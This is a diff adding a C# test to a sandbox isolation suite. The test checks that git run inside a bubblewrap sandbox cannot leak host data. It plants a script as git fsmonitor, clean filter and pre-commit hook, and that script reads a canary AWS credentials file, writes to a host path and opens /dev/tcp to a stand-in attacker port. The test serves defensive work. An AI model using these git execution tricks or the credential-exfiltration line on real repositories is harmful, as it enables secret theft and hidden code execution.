@@ -79,6 +79,28 @@ public sealed class With_a_layer_off : IDisposable
     }
 
     [Fact]
+    public async Task With_git_itself_at_work_on_the_tree_what_it_starts_sees_and_writes_nothing_of_the_host()
+    {
+        Skip.UnlessFound("git");
+        var home = Directory.CreateDirectory(Path.Combine(root.FullName, "home", ".aws")).FullName;
+        await File.WriteAllTextAsync(Path.Combine(home, "credentials"), Canary.Of("home"), TestContext.Current.CancellationToken);
+        var payload = Placed("#!/bin/bash\necho NAME >> /work/ran\ncat @HOME@/.aws/credentials >> /work/seen\ntouch @OWNED@/git\n(echo x > /dev/tcp/127.0.0.1/@ATTACKER@)\nexit 1\n");
+        var request = new SandboxRequest { Binds = [new("/usr/bin", "/usr/bin"), new("/usr/bin", "/bin")], Environment = new Dictionary<string, string> { ["PATH"] = "/usr/bin" }, Limits = Limits };
+        await using var cage = await (await BubblewrapAsync()).OpenAsync(request, TestContext.Current.CancellationToken);
+        foreach (var name in new[] { "monitor", "filter", "hook" })
+        {
+            await cage.WriteAsync(name, Encoding.UTF8.GetBytes(payload.Replace("NAME", name, StringComparison.Ordinal)), TestContext.Current.CancellationToken);
+        }
+
+        await cage.WriteAsync("tree/.gitattributes", "* filter=evil\n"u8.ToArray(), TestContext.Current.CancellationToken);
+        await cage.RunAsync(Shell("git init -q tree; cd tree; chmod +x ../monitor ../filter ../hook; mkdir -p .git/hooks; cp ../hook .git/hooks/pre-commit; git config core.fsmonitor ../monitor; git config filter.evil.clean 'sh /work/filter'; git status; git add .; git -c user.name=a -c user.email=a@b commit -m one"), TestContext.Current.CancellationToken);
+        var ran = await cage.RunAsync(Shell("sort -u ran; cat seen"), TestContext.Current.CancellationToken);
+        Assert.Equal("filter\nhook\nmonitor\n", Encoding.UTF8.GetString(ran.Output));
+        Assert.Empty(Directory.EnumerateFileSystemEntries(Owned));
+        Assert.False(attacker.Pending());
+    }
+
+    [Fact]
     public async Task With_a_state_of_secrets_nothing_can_carry_them_away()
     {
         var raw = new SanitizedState(State.Bytes!, new HashSet<MaskedValue>());
@@ -126,6 +148,8 @@ public sealed class With_a_layer_off : IDisposable
         });
         Assert.Contains("ended early", ended.Message, StringComparison.Ordinal);
     }
+
+    private static Step Shell(string script) => new() { Arguments = ["/usr/bin/bash", "-c", script] };
 
     private string Placed(string text) => new Places(Path.Combine(root.FullName, "home"), Owned, 1, Port).In(text);
 
